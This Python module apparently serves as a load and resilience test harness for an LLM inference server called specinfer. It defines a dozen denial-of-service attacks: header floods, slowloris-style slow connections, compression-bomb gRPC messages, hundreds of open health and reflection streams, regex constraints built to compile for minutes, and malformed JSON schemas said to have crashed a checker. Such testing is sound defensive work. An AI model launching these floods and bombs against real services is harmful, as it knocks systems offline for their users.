"""Attacks on the doors of a system, each for a process of its own: it goes on until that process is ended.

An attacker has the addresses and, where it says so, a key that may have few requests at once. What it is answered
does not matter to it.
"""

import asyncio
import json
import os
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping
from contextlib import suppress
from dataclasses import dataclass
from itertools import count
from typing import Any

import grpc
from grpc_health.v1 import health_pb2, health_pb2_grpc
from grpc_reflection.v1alpha import reflection_pb2, reflection_pb2_grpc

from specinfer.v1 import common_pb2, generation_pb2, generation_pb2_grpc

AMBIGUOUS = 'start: a\na: a a | b\nb: b a | /[a-z]/ | /[a-z ]{1,3}/ | ""'
_MEBIBYTE = 2**20


@dataclass(frozen=True, slots=True)
class Doors:
    """Addresses of the doors, and the attacker's key."""

    gateway: str
    http: str
    key: str


async def _again(parallel: int, once: Callable[[int], Awaitable[object]], pause_s: float = 0.2) -> None:
    """Do something again and again, so many at a time, whatever comes of it."""
    numbers = count()

    async def forever() -> None:
        while True:
            with suppress(grpc.aio.AioRpcError, OSError, asyncio.IncompleteReadError, TimeoutError):
                await once(next(numbers))
            await asyncio.sleep(pause_s)

    await asyncio.gather(*(forever() for _ in range(parallel)))


async def _send(target: Doors, *parts: bytes, every_s: float = 0.0, wait_s: float = 60.0) -> None:
    """Open a connection to the HTTP service, send parts and wait for its end."""
    host, port = target.http.split(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    try:
        for part in parts:
            writer.write(part)
            await asyncio.wait_for(writer.drain(), wait_s)
            await asyncio.sleep(every_s)
        await asyncio.wait_for(reader.read(), wait_s)
    finally:
        writer.close()


def _post(body: bytes, length: int | None = None, key: str = "") -> bytes:
    head = f"POST /v1/completions HTTP/1.1\r\nHost: localhost\r\nContent-Length: {length or len(body)}\r\n"
    head += f"Content-Type: application/json\r\nAuthorization: Bearer {key or 'none'}\r\n\r\n"
    return head.encode() + body


async def body_bombs(target: Doors) -> None:
    """Send bodies of 4 MB that are wrong a million times, without a key."""
    body = b'{"model":"m","prompt":[' + b",".join([b"1.5"] * 1_000_000) + b"]}"
    await _again(4, lambda _: _send(target, _post(body)))


async def head_floods(target: Doors) -> None:
    """Send heads without an end, without a key."""
    lines = b"".join([b"X-%07d: " % i + b"a" * 1000 + b"\r\n" for i in range(100)])
    await _again(4, lambda _: _send(target, b"GET /health HTTP/1.1\r\nHost: localhost\r\n", *[lines] * 600))


async def slow_connections(target: Doors) -> None:
    """Send half a head on five hundred connections, and bodies byte by byte with a key on a hundred."""
    half, byte = b"GET /health HTTP/1.1\r\nHost: localhost\r\nX-", [b"{"] * 60
    slow = _post(b"", 1000, target.key)
    await asyncio.gather(
        _again(500, lambda _: _send(target, half)),
        _again(100, lambda _: _send(target, slow, *byte, every_s=1.0)),
    )


async def keyless_calls(target: Doors) -> None:
    """Open streams of health and reflection, and calls without their message, hundreds of each."""

    async def asking() -> AsyncIterator[Any]:
        yield reflection_pb2.ServerReflectionRequest(list_services="")
        await asyncio.Event().wait()

    async def silent() -> AsyncIterator[bytes]:
        await asyncio.Event().wait()
        yield b""

    async def read(call: Any) -> None:
        async for _ in call:
            pass

    async with grpc.aio.insecure_channel(target.gateway) as channel:
        watch = health_pb2_grpc.HealthStub(channel).Watch
        reflect = reflection_pb2_grpc.ServerReflectionStub(channel).ServerReflectionInfo
        check: Any = channel.stream_stream("/grpc.health.v1.Health/Check")
        await asyncio.gather(
            _again(300, lambda _: read(watch(health_pb2.HealthCheckRequest())), 5.0),
            _again(300, lambda _: read(reflect(asking())), 5.0),
            _again(300, lambda _: read(check(silent())), 5.0),
        )


async def packed_messages(target: Doors) -> None:
    """Send messages that are a thousand times larger when unpacked, with a key."""
    request = generation_pb2.GenerateRequest(text="a" * 64 * _MEBIBYTE)
    options = [("grpc.max_send_message_length", -1)]
    async with grpc.aio.insecure_channel(target.gateway, options=options) as channel:
        packed = generation_pb2_grpc.GenerationStub(channel)  # type: ignore[no-untyped-call]
        await _again(2, lambda _: _read(packed, request, target, compression=grpc.Compression.Gzip), 1.0)


async def _read(stub: Any, request: Any, target: Doors, **options: Any) -> None:
    metadata = (("authorization", f"Bearer {target.key}"),)
    async for _ in stub.Generate(request, metadata=metadata, timeout=120, **options):
        pass


async def _generate(
    target: Doors,
    parallel: int,
    make: Callable[[int], generation_pb2.GenerateRequest],
    pause_s: float = 0.2,
) -> None:
    async with grpc.aio.insecure_channel(target.gateway) as channel:
        stub = generation_pb2_grpc.GenerationStub(channel)  # type: ignore[no-untyped-call]
        await _again(parallel, lambda number: _read(stub, make(number), target), pause_s)


def _request(text: str = "The red lever", **fields: Any) -> generation_pb2.GenerateRequest:
    asked = {"max_new_tokens": 30, "ignore_eos": True, **fields}
    return generation_pb2.GenerateRequest(
        text=text, sampling=common_pb2.SamplingParams(temperature=1), **asked
    )


async def plain_requests(target: Doors) -> None:
    """Send honest requests, as many at once as the key may have: no attack, but load."""
    await _generate(target, 8, lambda _: _request())


async def attached_streams(target: Doors) -> None:
    """Attach to one request again and again."""
    metadata = (("authorization", f"Bearer {target.key}"),)
    async with grpc.aio.insecure_channel(target.gateway) as channel:
        stub = generation_pb2_grpc.GenerationStub(channel)  # type: ignore[no-untyped-call]

        async def attach(_: int) -> None:
            async for _ in stub.Attach(generation_pb2.AttachRequest(request_id="mine"), metadata=metadata):
                pass

        async def run(number: int) -> None:
            await _read(stub, _request(request_id="mine" if not number else "", max_new_tokens=400), target)

        await asyncio.gather(_again(1, run), _again(200, attach, 5.0))


async def dear_masks(target: Doors) -> None:
    """Ask for an ambiguous grammar of 70 characters, as many requests at once as the key may have."""
    await _generate(target, 8, lambda _: _request(constraint=common_pb2.Constraint(grammar=AMBIGUOUS)))


async def dear_constraints(target: Doors) -> None:
    """Send constraints that compile for minutes, each another one."""

    def bomb(number: int) -> generation_pb2.GenerateRequest:
        parts = " & ".join([f"/(.*a.{{{k}}}.*)/" for k in range(3, 40)])
        return _request(constraint=common_pb2.Constraint(grammar=f"start: A\nA: {parts} & /.*{number}.*/"))

    await _generate(target, 20, bomb, 1.0)


async def wrong_schemas(target: Doors) -> None:
    """Send schemas that have ended the process which checks them."""
    wrong = [
        '{"enum":["\\ud800"]}',
        '{"const":NaN}',
        '{"minimum":1e999}',
        "[]",
        '{"items":' * 130 + "{}" + "}" * 130,
    ]

    def schema(number: int) -> generation_pb2.GenerateRequest:
        source = f"{wrong[number % len(wrong)]}{' ' * (number % 1000)}"
        return _request(constraint=common_pb2.Constraint(json_schema=source))

    await _generate(target, 8, schema)


async def long_texts(target: Doors) -> None:
    """Send texts of 260 kB, which are tokenized and then too long."""
    await _generate(target, 20, lambda number: _request(f"{number} " + "aB1_ " * 52_000), 1.0)


async def large_choices(target: Doors) -> None:
    """Send bodies of 1 MB for many choices over HTTP, with a key."""
    body = json.dumps({"model": "m", "prompt": "a b " * 250_000, "n": 128}).encode()
    await _again(4, lambda _: _send(target, _post(body, key=target.key)))


ATTACKS: Mapping[str, Callable[[Doors], Awaitable[None]]] = {
    "8 plain requests at once": plain_requests,
    "bodies with a million faults": body_bombs,
    "heads without an end": head_floods,
    "slow heads and bodies": slow_connections,
    "health, reflection, silence": keyless_calls,
    "messages to unpack": packed_messages,
    "many streams of one request": attached_streams,
    "large bodies for 128 choices": large_choices,
    "long texts": long_texts,
    "constraints to compile": dear_constraints,
    "wrong schemas": wrong_schemas,
    "8 ambiguous grammars at once": dear_masks,
}


def attack(name: str, target: Doors) -> None:
    """Run one, in this process, without end. It stands for another machine, so it gets what the others leave."""
    os.nice(19)
    asyncio.run(ATTACKS[name](target))  # type: ignore[arg-type]
